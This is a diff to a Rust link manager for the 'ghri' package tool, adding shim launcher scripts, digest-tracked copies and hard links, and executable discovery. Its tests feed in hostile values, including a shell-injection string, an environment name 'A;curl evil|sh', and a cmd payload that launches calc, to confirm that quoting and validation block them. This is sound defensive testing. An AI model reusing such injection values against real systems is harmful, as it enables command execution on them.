@@ -2,15 +2,26 @@
 //!
 //! This module provides a unified interface for managing symlinks
 //! associated with installed packages, including creation, validation,
-//! and removal of external links.
+//! and removal of external links. Shims (launcher scripts written by ghri)
+//! are managed like symlinks: the target is read from the script's marker line.
+//! Copies and hard links are recognised by the digest recorded in their rule.
 
 use crate::domain::model::link::{
-    CheckedLink, LinkRule, LinkStatus, LinkValidation, RemoveLinkResult, VersionedLink,
+    CheckedLink, LinkMode, LinkRule, LinkStatus, LinkValidation, RemoveLinkResult, Shim,
+    VersionedLink,
 };
+use crate::download::sha256_file;
 use crate::runtime::{Runtime, is_path_under, relative_symlink_path};
 use anyhow::Result;
+use std::io::Read;
 use std::path::{Path, PathBuf};
 
+/// Marker in a shim script, followed by the target path
+const SHIM_MARKER: &str = "ghri shim for ";
+
+/// Bytes read from a file when looking for the shim marker
+const SHIM_HEADER_SIZE: usize = 1024;
+
 /// Link manager for handling symlinks associated with packages.
 ///
 /// Provides methods for:
@@ -59,12 +70,38 @@ impl<'a, R: Runtime> LinkManager<'a, R> {
                 LinkStatus::Unresolvable
             }
         } else if self.runtime.exists(dest) {
-            LinkStatus::NotSymlink
+            match self.read_shim_target(dest) {
+                Some(target) if is_path_under(&target, expected_prefix) => LinkStatus::Valid,
+                Some(_) => LinkStatus::WrongTarget,
+                None => LinkStatus::NotSymlink,
+            }
         } else {
             LinkStatus::NotExists
         }
     }
 
+    /// Check the destination of a link rule.
+    ///
+    /// With a digest the destination is a copy or hard link placed by ghri,
+    /// valid while its content matches; otherwise it is checked like a symlink.
+    pub fn check_rule_link(
+        &self,
+        dest: &Path,
+        digest: Option<&str>,
+        expected_prefix: &Path,
+    ) -> LinkStatus {
+        let Some(digest) = digest else {
+            return self.check_link(dest, expected_prefix);
+        };
+        if !self.runtime.exists(dest) && !self.runtime.is_symlink(dest) {
+            LinkStatus::NotExists
+        } else if self.is_placed_file(dest, digest) {
+            LinkStatus::Valid
+        } else {
+            LinkStatus::Modified
+        }
+    }
+
     /// Check all links in a list and categorize them.
     ///
     /// Returns (valid_or_creatable, problematic) links.
@@ -77,7 +114,7 @@ impl<'a, R: Runtime> LinkManager<'a, R> {
         let mut invalid = Vec::new();
 
         for link in links {
-            let status = self.check_link(&link.dest, expected_prefix);
+            let status = self.check_rule_link(&link.dest, link.digest.as_deref(), expected_prefix);
             let checked = CheckedLink {
                 dest: link.dest.clone(),
                 status: status.clone(),
@@ -105,7 +142,7 @@ impl<'a, R: Runtime> LinkManager<'a, R> {
 
         for link in links {
             let version_dir = package_dir.join(&link.version);
-            let status = self.check_link(&link.dest, &version_dir);
+            let status = self.check_rule_link(&link.dest, link.digest.as_deref(), &version_dir);
             let checked = CheckedLink {
                 dest: link.dest.clone(),
                 status: status.clone(),
@@ -135,7 +172,7 @@ impl<'a, R: Runtime> LinkManager<'a, R> {
         let mut invalid = Vec::new();
 
         for link in filtered {
-            let status = self.check_link(&link.dest, expected_prefix);
+            let status = self.check_rule_link(&link.dest, link.digest.as_deref(), expected_prefix);
             let checked = CheckedLink {
                 dest: link.dest.clone(),
                 status: status.clone(),
@@ -184,12 +221,58 @@ impl<'a, R: Runtime> LinkManager<'a, R> {
             }
         };
 
+        // A copy or hard link is replaced only while it has the content ghri placed
+        if rule.shim.is_none() && !rule.mode.is_symlink() {
+            if self.runtime.is_dir(&target) {
+                return LinkValidation::Error {
+                    dest: rule.dest.clone(),
+                    error: format!(
+                        "{} mode needs a file, {:?} is a directory",
+                        rule.mode, target
+                    ),
+                };
+            }
+            let exists = self.runtime.exists(&rule.dest) || self.runtime.is_symlink(&rule.dest);
+            let placed = rule
+                .digest
+                .as_deref()
+                .is_some_and(|digest| self.is_placed_file(&rule.dest, digest));
+            return if exists && !placed {
+                LinkValidation::Skip {
+                    dest: rule.dest.clone(),
+                    reason: "file was modified or not placed by ghri".to_string(),
+                }
+            } else {
+                LinkValidation::Valid {
+                    target,
+                    dest: rule.dest.clone(),
+                    needs_removal: exists,
+                }
+            };
+        }
+
         // Check destination
         if self.runtime.exists(&rule.dest) {
             if !self.runtime.is_symlink(&rule.dest) {
-                return LinkValidation::Skip {
-                    dest: rule.dest.clone(),
-                    reason: "destination exists but is not a symlink".to_string(),
+                return match self.read_shim_target(&rule.dest) {
+                    Some(existing_target) if !is_path_under(&existing_target, package_dir) => {
+                        LinkValidation::Skip {
+                            dest: rule.dest.clone(),
+                            reason: format!(
+                                "shim runs external path {:?}, not managed by this package",
+                                existing_target
+                            ),
+                        }
+                    }
+                    Some(_) => LinkValidation::Valid {
+                        target,
+                        dest: rule.dest.clone(),
+                        needs_removal: true,
+                    },
+                    None => LinkValidation::Skip {
+                        dest: rule.dest.clone(),
+                        reason: "destination exists but is not a symlink".to_string(),
+                    },
                 };
             }
 
@@ -240,11 +323,94 @@ impl<'a, R: Runtime> LinkManager<'a, R> {
         }
     }
 
-    /// Remove a symlink if it exists and is a symlink.
+    /// Create a shim at `dest` that runs `target`.
+    ///
+    /// The script refers to `target` by its absolute path, so it has to be
+    /// rewritten when the link moves to another version.
+    pub fn create_shim(&self, target: &Path, dest: &Path, shim: &Shim) -> Result<()> {
+        shim.validate()?;
+        if let Some(parent) = dest.parent()
+            && !self.runtime.exists(parent)
+        {
+            self.runtime.create_dir_all(parent)?;
+        }
+
+        self.runtime
+            .write(dest, shim_script(target, shim).as_bytes())?;
+        self.runtime.set_permissions(dest, 0o755)
+    }
+
+    /// Copy or hard link `target` to `dest`, returning the digest of the placed file.
+    pub fn place_file(&self, target: &Path, dest: &Path, mode: LinkMode) -> Result<String> {
+        if self.runtime.is_dir(target) {
+            anyhow::bail!("{} mode needs a file, {:?} is a directory", mode, target);
+        }
+        if let Some(parent) = dest.parent()
+            && !self.runtime.exists(parent)
+        {
+            self.runtime.create_dir_all(parent)?;
+        }
+
+        match mode {
+            LinkMode::Hardlink => self.runtime.hard_link(target, dest)?,
+            _ => {
+                self.runtime.copy(target, dest)?;
+            }
+        }
+        sha256_file(self.runtime, dest)
+    }
+
+    /// Create a link as a rule asks for it: a shim when it has shim settings,
+    /// otherwise a symlink, copy or hard link.
+    ///
+    /// Returns the digest of a copied or hard linked file, to record in the rule.
+    pub fn create_rule_link(
+        &self,
+        target: &Path,
+        dest: &Path,
+        shim: Option<&Shim>,
+        mode: LinkMode,
+    ) -> Result<Option<String>> {
+        match (shim, mode) {
+            (Some(shim), _) => self.create_shim(target, dest, shim).map(|_| None),
+            (None, LinkMode::Symlink) => self.create_link(target, dest).map(|_| None),
+            (None, mode) => self.place_file(target, dest, mode).map(Some),
+        }
+    }
+
+    /// Whether `dest` is a file with the content ghri placed there
+    fn is_placed_file(&self, dest: &Path, digest: &str) -> bool {
+        !self.runtime.is_symlink(dest)
+            && self.runtime.exists(dest)
+            && !self.runtime.is_dir(dest)
+            && sha256_file(self.runtime, dest).is_ok_and(|actual| actual == digest)
+    }
+
+    /// Target of a shim written by ghri, or None for any other file.
+    ///
+    /// Only the beginning of the file is read, so large binaries are cheap to rule out.
+    fn read_shim_target(&self, dest: &Path) -> Option<PathBuf> {
+        let mut header = Vec::new();
+        self.runtime
+            .open(dest)
+            .ok()?
+            .take(SHIM_HEADER_SIZE as u64)
+            .read_to_end(&mut header)
+            .ok()?;
+        String::from_utf8_lossy(&header)
+            .lines()
+            .find_map(|line| line.split_once(SHIM_MARKER))
+            .map(|(_, target)| PathBuf::from(target.trim()))
+    }
+
+    /// Remove a symlink or a shim if it exists.
     pub fn remove_link(&self, dest: &Path) -> Result<bool> {
         if self.runtime.is_symlink(dest) {
             self.runtime.remove_symlink(dest)?;
             Ok(true)
+        } else if self.runtime.exists(dest) && self.read_shim_target(dest).is_some() {
+            self.runtime.remove_file(dest)?;
+            Ok(true)
         } else {
             Ok(false)
         }
@@ -255,6 +421,14 @@ impl<'a, R: Runtime> LinkManager<'a, R> {
     /// This is a safety check to avoid removing symlinks managed by other tools.
     pub fn remove_link_if_under(&self, dest: &Path, prefix: &Path) -> Result<bool> {
         if !self.runtime.is_symlink(dest) {
+            if self.runtime.exists(dest)
+                && self
+                    .read_shim_target(dest)
+                    .is_some_and(|target| is_path_under(&target, prefix))
+            {
+                self.runtime.remove_file(dest)?;
+                return Ok(true);
+            }
             return Ok(false);
         }
 
@@ -287,9 +461,16 @@ impl<'a, R: Runtime> LinkManager<'a, R> {
             return Ok(RemoveLinkResult::NotExists);
         }
 
-        // Check if it's a symlink
+        // Check if it's a symlink, or a shim
         if !self.runtime.is_symlink(dest) {
-            return Ok(RemoveLinkResult::NotSymlink);
+            return match self.read_shim_target(dest) {
+                Some(target) if is_path_under(&target, prefix) => {
+                    self.runtime.remove_file(dest)?;
+                    Ok(RemoveLinkResult::Removed)
+                }
+                Some(_) => Ok(RemoveLinkResult::ExternalTarget),
+                None => Ok(RemoveLinkResult::NotSymlink),
+            };
         }
 
         // Try to resolve the symlink target
@@ -311,6 +492,68 @@ impl<'a, R: Runtime> LinkManager<'a, R> {
         }
     }
 
+    /// Remove the destination of a link rule if it is managed by ghri.
+    ///
+    /// Without a digest this is `remove_link_if_under`. With one, the
+    /// destination is a copy or hard link, removed only while its content
+    /// matches: a modified file belongs to the user now.
+    pub fn remove_rule_link_if_under(
+        &self,
+        dest: &Path,
+        digest: Option<&str>,
+        prefix: &Path,
+    ) -> Result<bool> {
+        match digest {
+            None => self.remove_link_if_under(dest, prefix),
+            Some(digest) if self.is_placed_file(dest, digest) => {
+                self.runtime.remove_file(dest)?;
+                Ok(true)
+            }
+            Some(_) => Ok(false),
+        }
+    }
+
+    /// Safely remove the destination of a link rule with detailed status reporting.
+    ///
+    /// Without a digest this is `remove_link_safely`. A copy or hard link is
+    /// removed while its content matches the digest, and reported as
+    /// `Modified` otherwise.
+    pub fn remove_rule_link_safely(
+        &self,
+        dest: &Path,
+        digest: Option<&str>,
+        prefix: &Path,
+    ) -> Result<RemoveLinkResult> {
+        let Some(digest) = digest else {
+            return self.remove_link_safely(dest, prefix);
+        };
+        if !self.runtime.exists(dest) && !self.runtime.is_symlink(dest) {
+            Ok(RemoveLinkResult::NotExists)
+        } else if self.is_placed_file(dest, digest) {
+            self.runtime.remove_file(dest)?;
+            Ok(RemoveLinkResult::Removed)
+        } else {
+            Ok(RemoveLinkResult::Modified)
+        }
+    }
+
+    /// Prepare the destination of a link rule, like `prepare_link_destination`.
+    ///
+    /// A copy or hard link with the recorded digest is removed as well.
+    pub fn prepare_rule_destination(
+        &self,
+        dest: &Path,
+        digest: Option<&str>,
+        package_dir: &Path,
+    ) -> Result<()> {
+        if let Some(digest) = digest
+            && self.is_placed_file(dest, digest)
+        {
+            return self.runtime.remove_file(dest);
+        }
+        self.prepare_link_destination(dest, package_dir)
+    }
+
     /// Update the 'current' symlink in a package directory to point to a specific version.
     ///
     /// The `current` symlink is located in the package directory and points to a version subdirectory.
@@ -373,17 +616,18 @@ impl<'a, R: Runtime> LinkManager<'a, R> {
             return Ok(false); // Doesn't exist, safe to create
         }
 
-        if !self.runtime.is_symlink(dest) {
-            anyhow::bail!("Destination {:?} already exists and is not a symlink", dest);
-        }
-
-        // It's a symlink, check where it points
-        let existing_target = self.runtime.resolve_link(dest).map_err(|_| {
-            anyhow::anyhow!(
-                "Destination {:?} is a symlink but cannot read its target",
-                dest
-            )
-        })?;
+        let existing_target = if self.runtime.is_symlink(dest) {
+            self.runtime.resolve_link(dest).map_err(|_| {
+                anyhow::anyhow!(
+                    "Destination {:?} is a symlink but cannot read its target",
+                    dest
+                )
+            })?
+        } else {
+            self.read_shim_target(dest).ok_or_else(|| {
+                anyhow::anyhow!("Destination {:?} already exists and is not a symlink", dest)
+            })?
+        };
 
         if is_path_under(&existing_target, package_dir) {
             Ok(true) // Points within package, can be updated
@@ -409,36 +653,144 @@ impl<'a, R: Runtime> LinkManager<'a, R> {
         Ok(())
     }
 
+    /// Point link rules at a version directory.
+    ///
+    /// Uses an atomic approach: all links are validated first, and nothing is
+    /// changed if any of them fails validation. Copies and hard links are
+    /// placed again; their new digests are returned by destination.
+    pub fn update_links(
+        &self,
+        rules: &[LinkRule],
+        version_dir: &Path,
+    ) -> Result<Vec<(PathBuf, String)>> {
+        if rules.is_empty() {
+            return Ok(vec![]);
+        }
+
+        let package_dir = version_dir
+            .parent()
+            .ok_or_else(|| anyhow::anyhow!("Version directory has no parent"))?;
+
+        // --- Phase 1: Validate all links ---
+        #[derive(Debug)]
+        struct ValidatedLink {
+            target: PathBuf,
+            dest: PathBuf,
+            needs_removal: bool,
+            shim: Option<Shim>,
+            mode: LinkMode,
+        }
+
+        let mut validated_links: Vec<ValidatedLink> = Vec::new();
+        let mut skipped: Vec<(PathBuf, String)> = Vec::new();
+        let mut errors: Vec<(PathBuf, String)> = Vec::new();
+
+        for rule in rules {
+            match self.validate_link(rule, version_dir, package_dir) {
+                LinkValidation::Valid {
+                    target,
+                    dest,
+                    needs_removal,
+                } => {
+                    validated_links.push(ValidatedLink {
+                        target,
+                        dest,
+                        needs_removal,
+                        shim: rule.shim.clone(),
+                        mode: rule.mode,
+                    });
+                }
+                LinkValidation::Skip { dest, reason } => {
+                    log::debug!("Skipping link {:?}: {}", dest, reason);
+                    eprintln!("Warning: Skipping {:?} - {}", dest, reason);
+                    skipped.push((dest, reason));
+                }
+                LinkValidation::Error { dest, error } => {
+                    eprintln!("Error validating link {:?}: {}", dest, error);
+                    errors.push((dest, error));
+                }
+            }
+        }
+
+        // If there are validation errors, fail before making any changes
+        if !errors.is_empty() {
+            let error_msgs: Vec<String> = errors
+                .iter()
+                .map(|(dest, e)| format!("{:?}: {}", dest, e))
+                .collect();
+            anyhow::bail!(
+                "Link validation failed for {} link(s):\n  {}",
+                errors.len(),
+                error_msgs.join("\n  ")
+            );
+        }
+
+        // --- Phase 2: Execute all validated link updates ---
+        let mut digests = Vec::new();
+        for validated in &validated_links {
+            // Remove existing symlink, shim or placed file if needed
+            if validated.needs_removal {
+                if validated.shim.is_none() && !validated.mode.is_symlink() {
+                    self.runtime.remove_file(&validated.dest)?;
+                } else {
+                    self.remove_link(&validated.dest)?;
+                }
+            }
+
+            // Create new link (create_link handles parent directory and relative path)
+            if let Some(digest) = self.create_rule_link(
+                &validated.target,
+                &validated.dest,
+                validated.shim.as_ref(),
+                validated.mode,
+            )? {
+                digests.push((validated.dest.clone(), digest));
+            }
+            log::info!(
+                "Updated external link {:?} -> {:?}",
+                validated.dest,
+                validated.target
+            );
+        }
+
+        if !skipped.is_empty() {
+            log::warn!("{} link(s) were skipped", skipped.len());
+        }
+
+        Ok(digests)
+    }
+
     /// Create external links for a package version.
+    ///
+    /// Returns the digests of copied and hard linked files by destination.
     pub fn create_external_links(
         &self,
         version_dir: &Path,
         package_dir: &Path,
         links: &[LinkRule],
         versioned_links: &[VersionedLink],
-    ) -> Result<()> {
-        // Process standard links
-        for link in links {
-            self.create_link_from_rule(version_dir, package_dir, &link.path, &link.dest)?;
-        }
-
-        // Process versioned links
-        for link in versioned_links {
-            self.create_link_from_rule(version_dir, package_dir, &link.path, &link.dest)?;
+    ) -> Result<Vec<(PathBuf, String)>> {
+        let versioned_rules: Vec<LinkRule> = versioned_links.iter().map(|l| l.to_rule()).collect();
+        let mut digests = Vec::new();
+
+        // Process standard links, then versioned links
+        for rule in links.iter().chain(&versioned_rules) {
+            if let Some(digest) = self.create_link_from_rule(version_dir, package_dir, rule)? {
+                digests.push((rule.dest.clone(), digest));
+            }
         }
 
-        Ok(())
+        Ok(digests)
     }
 
     fn create_link_from_rule(
         &self,
         version_dir: &Path,
         package_dir: &Path,
-        source_path: &Option<String>, // Path inside the archive/version_dir
-        dest_path: &Path,             // Where the link should be created (e.g. ~/.local/bin/tool)
-    ) -> Result<()> {
+        rule: &LinkRule,
+    ) -> Result<Option<String>> {
         // Determine the target file inside the version directory
-        let target_file = if let Some(path) = source_path {
+        let target_file = if let Some(path) = &rule.path {
             version_dir.join(path)
         } else {
             self.find_default_target(version_dir)?
@@ -452,12 +804,10 @@ impl<'a, R: Runtime> LinkManager<'a, R> {
         }
 
         // Prepare destination
-        self.prepare_link_destination(dest_path, package_dir)?;
+        self.prepare_rule_destination(&rule.dest, rule.digest.as_deref(), package_dir)?;
 
         // Create the link
-        self.create_link(&target_file, dest_path)?;
-
-        Ok(())
+        self.create_rule_link(&target_file, &rule.dest, rule.shim.as_ref(), rule.mode)
     }
 
     /// Find the default link target in a version directory.
@@ -477,6 +827,129 @@ impl<'a, R: Runtime> LinkManager<'a, R> {
         // Multiple entries or single directory - use version dir itself
         Ok(version_dir.to_path_buf())
     }
+
+    /// Find the executables in a version directory.
+    ///
+    /// In a `bin/` directory, a file is an executable when it has an execute
+    /// bit, starts with a shebang or is a native binary for this platform.
+    /// Elsewhere it has to be a native binary, or a script with both a
+    /// shebang and an execute bit, so helpers like an `install.sh` without
+    /// one are not linked (on Windows: an `.exe` anywhere, or a `.cmd`,
+    /// `.bat` or `.ps1` script in a `bin/` directory). When several share a
+    /// file name, the one in a `bin/` directory wins. Returns absolute paths,
+    /// sorted.
+    pub fn find_executables(&self, version_dir: &Path) -> Result<Vec<PathBuf>> {
+        let mut found = Vec::new();
+        let mut dirs = vec![version_dir.to_path_buf()];
+        while let Some(dir) = dirs.pop() {
+            let in_bin_dir = dir != version_dir && dir.file_name().is_some_and(|n| n == "bin");
+            for entry in self.runtime.read_dir(&dir)? {
+                // Symlinked directories are not followed, to stay inside the version
+                if self.runtime.is_dir(&entry) {
+                    if !self.runtime.is_symlink(&entry) {
+                        dirs.push(entry);
+                    }
+                } else if self.is_executable(&entry, in_bin_dir) {
+                    found.push((!in_bin_dir, entry));
+                }
+            }
+        }
+
+        found.sort();
+        let mut names = std::collections::HashSet::new();
+        let mut executables: Vec<PathBuf> = found
+            .into_iter()
+            .map(|(_, path)| path)
+            .filter(|path| names.insert(path.file_name().map(|n| n.to_os_string())))
+            .collect();
+        executables.sort();
+        Ok(executables)
+    }
+
+    /// Whether a file is a native executable or a script that is meant to be run
+    #[cfg(unix)]
+    fn is_executable(&self, path: &Path, in_bin_dir: bool) -> bool {
+        let name = path.file_name().unwrap_or_default().to_string_lossy();
+        if name.ends_with(".so") || name.contains(".so.") || name.ends_with(".dylib") {
+            return false;
+        }
+        let mut header = [0u8; 4];
+        let Ok(read) = self
+            .runtime
+            .open(path)
+            .and_then(|mut file| Ok(file.read(&mut header)?))
+        else {
+            return false;
+        };
+        match &header[..read] {
+            [b'#', b'!', ..] => in_bin_dir || self.runtime.is_executable(path),
+            // ELF and Mach-O magic; only these are worth parsing
+            [0x7f, b'E', b'L', b'F']
+            | [0xfe, 0xed, 0xfa, 0xce | 0xcf]
+            | [0xce | 0xcf, 0xfa, 0xed, 0xfe]
+            | [0xca, 0xfe, 0xba, 0xbe] => {
+                super::release_installer::is_native_executable(self.runtime, path)
+            }
+            _ => in_bin_dir && self.runtime.is_executable(path),
+        }
+    }
+
+    /// Whether a file is a program Windows can run; `bin/` also holds DLLs there
+    #[cfg(not(unix))]
+    fn is_executable(&self, path: &Path, in_bin_dir: bool) -> bool {
+        let programs: &[&str] = if in_bin_dir {
+            &["exe", "cmd", "bat", "ps1"]
+        } else {
+            &["exe"]
+        };
+        path.extension()
+            .is_some_and(|ext| programs.iter().any(|e| ext.eq_ignore_ascii_case(e)))
+    }
+}
+
+/// Launcher script that runs `target` with the shim's environment and arguments
+#[cfg(not(windows))]
+fn shim_script(target: &Path, shim: &Shim) -> String {
+    fn quote(value: &str) -> String {
+        format!("'{}'", value.replace('\'', r#"'\''"#))
+    }
+
+    let mut script = format!("#!/bin/sh\n# {}{}\n", SHIM_MARKER, target.display());
+    for (name, value) in &shim.env {
+        script.push_str(&format!("export {}={}\n", name, quote(value)));
+    }
+    script.push_str(&format!("exec {}", quote(&target.to_string_lossy())));
+    for arg in &shim.args {
+        script.push(' ');
+        script.push_str(&quote(arg));
+    }
+    script.push_str(" \"$@\"\n");
+    script
+}
+
+/// Launcher script that runs `target` with the shim's environment and arguments
+#[cfg(windows)]
+fn shim_script(target: &Path, shim: &Shim) -> String {
+    // Inside double quotes cmd only expands `%`; a doubled `"` keeps the
+    // rest of the argument quoted and reaches the program as one `"`.
+    fn quote(value: &str) -> String {
+        format!("\"{}\"", value.replace('%', "%%").replace('"', "\"\""))
+    }
+
+    let mut script = format!("@echo off\r\nrem {}{}\r\n", SHIM_MARKER, target.display());
+    for (name, value) in &shim.env {
+        script.push_str(&format!(
+            "set {}\r\n",
+            quote(&format!("{}={}", name, value))
+        ));
+    }
+    script.push_str(&quote(&target.to_string_lossy()));
+    for arg in &shim.args {
+        script.push(' ');
+        script.push_str(&quote(arg));
+    }
+    script.push_str(" %*\r\n");
+    script
 }
 
 #[cfg(test)]
@@ -486,6 +959,12 @@ mod tests {
     use crate::test_utils::{test_bin_dir, test_other_path, test_root};
     use mockall::predicate::eq;
 
+    fn expect_open_binary(runtime: &mut MockRuntime) {
+        runtime
+            .expect_open()
+            .returning(|_| Ok(Box::new(std::io::Cursor::new(b"\x7fELF\x02\x01".to_vec()))));
+    }
+
     #[test]
     fn test_check_link_valid() {
         let mut runtime = MockRuntime::new();
@@ -567,6 +1046,9 @@ mod tests {
             .with(eq(dest.clone()))
             .returning(|_| true);
 
+        // The file is a program, not a shim
+        expect_open_binary(&mut runtime);
+
         let manager = LinkManager::new(&runtime);
         let status = manager.check_link(&dest, &prefix);
         assert_eq!(status, LinkStatus::NotSymlink);
@@ -609,13 +1091,20 @@ mod tests {
             LinkRule {
                 dest: valid_dest,
                 path: None,
+                shim: None,
+                ..Default::default()
             },
             LinkRule {
                 dest: invalid_dest,
                 path: None,
+                shim: None,
+                ..Default::default()
             },
         ];
 
+        // The file is a program, not a shim
+        expect_open_binary(&mut runtime);
+
         let manager = LinkManager::new(&runtime);
         let (valid, invalid) = manager.check_links(&links, &prefix);
 
@@ -646,6 +1135,8 @@ mod tests {
         let rule = LinkRule {
             dest: dest.clone(),
             path: Some("bin/tool".to_string()),
+            shim: None,
+            ..Default::default()
         };
 
         let manager = LinkManager::new(&runtime);
@@ -682,6 +1173,8 @@ mod tests {
         let rule = LinkRule {
             dest: dest.clone(),
             path: Some("bin/notfound".to_string()),
+            shim: None,
+            ..Default::default()
         };
 
         let manager = LinkManager::new(&runtime);
@@ -723,8 +1216,13 @@ mod tests {
         let rule = LinkRule {
             dest: dest.clone(),
             path: Some("bin/tool".to_string()),
+            shim: None,
+            ..Default::default()
         };
 
+        // The file is a program, not a shim
+        expect_open_binary(&mut runtime);
+
         let manager = LinkManager::new(&runtime);
         let result = manager.validate_link(&rule, &version_dir, &package_dir);
 
@@ -848,6 +1346,9 @@ mod tests {
             .with(eq(dest.clone()))
             .returning(|_| false);
 
+        // The file is a program, not a shim
+        expect_open_binary(&mut runtime);
+
         let manager = LinkManager::new(&runtime);
         let result = manager.can_update_link(&dest, &package_dir);
         assert!(result.is_err());
@@ -1054,4 +1555,258 @@ mod tests {
         let manager = LinkManager::new(&runtime);
         manager.update_current_link(&package_dir, "v1").unwrap();
     }
+
+    #[cfg(unix)]
+    #[test]
+    fn test_shim_script() {
+        let shim = Shim {
+            env: [("TOOL_HOME".to_string(), "/opt/it's".to_string())].into(),
+            args: vec!["--config".into(), "a b".into()],
+        };
+        assert_eq!(
+            shim_script(Path::new("/root/o/r/v1/tool"), &shim),
+            "#!/bin/sh\n\
+             # ghri shim for /root/o/r/v1/tool\n\
+             export TOOL_HOME='/opt/it'\\''s'\n\
+             exec '/root/o/r/v1/tool' '--config' 'a b' \"$@\"\n"
+        );
+    }
+
+    #[cfg(windows)]
+    #[test]
+    fn test_shim_script_escapes_cmd() {
+        let shim = Shim {
+            env: [("TOOL_HOME".to_string(), "C:\\a&b %PATH%".to_string())].into(),
+            args: vec!["x\" & calc & \"".into()],
+        };
+        assert_eq!(
+            shim_script(Path::new("C:\\tools\\tool.exe"), &shim),
+            "@echo off\r\n\
+             rem ghri shim for C:\\tools\\tool.exe\r\n\
+             set \"TOOL_HOME=C:\\a&b %%PATH%%\"\r\n\
+             \"C:\\tools\\tool.exe\" \"x\"\" & calc & \"\"\" %*\r\n"
+        );
+    }
+
+    #[cfg(unix)]
+    #[test]
+    fn test_shim_with_hostile_values_runs_nothing_else() {
+        use crate::runtime::RealRuntime;
+
+        // --- Setup ---
+        let dir = tempfile::tempdir().unwrap();
+        let pwned = dir.path().join("pwned");
+        let hostile = format!("'; touch {0}; '$(touch {0})`touch {0}`", pwned.display());
+        let shim = Shim {
+            env: [("TOOL_HOME".to_string(), hostile.clone())].into(),
+            args: vec![hostile.clone()],
+        };
+        let dest = dir.path().join("tool");
+        let runtime = RealRuntime;
+        let manager = LinkManager::new(&runtime);
+
+        // --- Execute ---
+        manager
+            .create_shim(Path::new("/bin/echo"), &dest, &shim)
+            .unwrap();
+        let output = std::process::Command::new(&dest).output().unwrap();
+
+        // --- Verify ---
+        assert_eq!(
+            String::from_utf8_lossy(&output.stdout),
+            format!("{}\n", hostile)
+        );
+        assert!(!pwned.exists());
+    }
+
+    #[test]
+    fn test_create_shim_rejects_invalid_env_names() {
+        let runtime = MockRuntime::new();
+        let manager = LinkManager::new(&runtime);
+        let shim = Shim {
+            env: [("A;curl evil|sh".to_string(), "1".to_string())].into(),
+            args: vec![],
+        };
+
+        let err = manager
+            .create_shim(Path::new("/o/r/v1/tool"), Path::new("/bin/tool"), &shim)
+            .unwrap_err();
+
+        assert!(
+            err.to_string()
+                .contains("Invalid environment variable name")
+        );
+    }
+
+    #[cfg(unix)]
+    #[test]
+    fn test_shims_are_managed_like_symlinks() {
+        use crate::runtime::RealRuntime;
+
+        // --- Setup ---
+        let root = tempfile::tempdir().unwrap();
+        let package_dir = root.path().join("owner/tool");
+        let version_dir = package_dir.join("v1.0.0");
+        std::fs::create_dir_all(&version_dir).unwrap();
+        std::fs::write(version_dir.join("tool"), "#!/bin/sh\necho tool \"$@\"\n").unwrap();
+        RealRuntime
+            .set_permissions(&version_dir.join("tool"), 0o755)
+            .unwrap();
+        let dest = root.path().join("bin/tool");
+        let other = root.path().join("bin/other");
+        std::fs::write(root.path().join("script"), "#!/bin/sh\n").unwrap();
+        let manager = LinkManager::new(&RealRuntime);
+
+        // --- Execute ---
+        manager
+            .create_shim(&version_dir.join("tool"), &dest, &Shim::default())
+            .unwrap();
+        manager
+            .create_shim(&root.path().join("script"), &other, &Shim::default())
+            .unwrap();
+
+        // --- Verify ---
+        let output = std::process::Command::new(&dest).arg("x").output().unwrap();
+        assert_eq!(String::from_utf8_lossy(&output.stdout), "tool x\n");
+        assert_eq!(manager.check_link(&dest, &package_dir), LinkStatus::Valid);
+        assert_eq!(
+            manager.check_link(&other, &package_dir),
+            LinkStatus::WrongTarget
+        );
+        assert!(manager.can_update_link(&dest, &package_dir).unwrap());
+        assert!(manager.can_update_link(&other, &package_dir).is_err());
+        assert_eq!(
+            manager.remove_link_safely(&other, &package_dir).unwrap(),
+            RemoveLinkResult::ExternalTarget
+        );
+        assert_eq!(
+            manager.remove_link_safely(&dest, &package_dir).unwrap(),
+            RemoveLinkResult::Removed
+        );
+        assert!(!dest.exists());
+        assert!(other.exists());
+    }
+
+    #[test]
+    fn test_placed_files_are_refreshed_until_modified() {
+        use crate::runtime::RealRuntime;
+
+        // --- Setup ---
+        let root = tempfile::tempdir().unwrap();
+        let package_dir = root.path().join("owner/tool");
+        for version in ["v1.0.0", "v2.0.0"] {
+            std::fs::create_dir_all(package_dir.join(version)).unwrap();
+            std::fs::write(package_dir.join(version).join("tool"), version).unwrap();
+        }
+        let copy = root.path().join("bin/tool-copy");
+        let hard = root.path().join("bin/tool-hard");
+        let mut rules: Vec<LinkRule> = [(&copy, LinkMode::Copy), (&hard, LinkMode::Hardlink)]
+            .into_iter()
+            .map(|(dest, mode)| LinkRule {
+                dest: dest.clone(),
+                path: Some("tool".into()),
+                mode,
+                ..Default::default()
+            })
+            .collect();
+        let manager = LinkManager::new(&RealRuntime);
+        let place = |rules: &mut Vec<LinkRule>, version: &str| {
+            let digests = manager
+                .update_links(rules, &package_dir.join(version))
+                .unwrap();
+            for rule in rules.iter_mut() {
+                if let Some((_, digest)) = digests.iter().find(|(dest, _)| *dest == rule.dest) {
+                    rule.digest = Some(digest.clone());
+                }
+            }
+            digests.len()
+        };
+
+        // --- Execute & Verify ---
+        assert_eq!(place(&mut rules, "v1.0.0"), 2);
+        assert_eq!(std::fs::read_to_string(&copy).unwrap(), "v1.0.0");
+        for rule in &rules {
+            assert_eq!(
+                manager.check_rule_link(&rule.dest, rule.digest.as_deref(), &package_dir),
+                LinkStatus::Valid
+            );
+        }
+
+        // Upgrading places the new version's content
+        assert_eq!(place(&mut rules, "v2.0.0"), 2);
+        assert_eq!(std::fs::read_to_string(&copy).unwrap(), "v2.0.0");
+        assert_eq!(std::fs::read_to_string(&hard).unwrap(), "v2.0.0");
+
+        // A modified copy is left alone from then on
+        std::fs::write(&copy, "edited").unwrap();
+        assert_eq!(
+            manager.check_rule_link(&copy, rules[0].digest.as_deref(), &package_dir),
+            LinkStatus::Modified
+        );
+        assert_eq!(place(&mut rules, "v1.0.0"), 1);
+        assert_eq!(std::fs::read_to_string(&copy).unwrap(), "edited");
+        assert_eq!(
+            manager
+                .remove_rule_link_safely(&copy, rules[0].digest.as_deref(), &package_dir)
+                .unwrap(),
+            RemoveLinkResult::Modified
+        );
+        assert!(copy.exists());
+        assert_eq!(
+            manager
+                .remove_rule_link_safely(&hard, rules[1].digest.as_deref(), &package_dir)
+                .unwrap(),
+            RemoveLinkResult::Removed
+        );
+        assert!(!hard.exists());
+        assert!(package_dir.join("v1.0.0/tool").exists());
+    }
+
+    #[cfg(unix)]
+    #[test]
+    fn test_find_executables() {
+        use crate::runtime::RealRuntime;
+
